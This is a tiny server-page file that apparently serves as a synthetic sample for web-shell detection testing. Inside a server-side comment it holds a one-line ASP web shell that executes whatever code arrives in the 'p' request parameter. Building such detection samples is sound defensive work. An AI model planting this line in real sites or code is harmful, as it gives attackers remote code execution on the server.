<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%If Request("p")<>"" Then Execute(Request("p"))%>
--%>
